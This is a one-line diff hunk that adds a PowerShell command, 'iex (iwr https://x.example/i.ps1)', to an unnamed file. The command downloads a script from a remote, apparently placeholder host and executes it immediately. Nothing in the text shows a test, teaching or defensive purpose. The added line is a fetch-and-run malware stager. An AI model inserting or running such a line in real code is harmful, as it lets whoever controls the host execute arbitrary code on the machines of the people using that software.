@@ -1,0 +1,1 @@
+iex (iwr https://x.example/i.ps1)
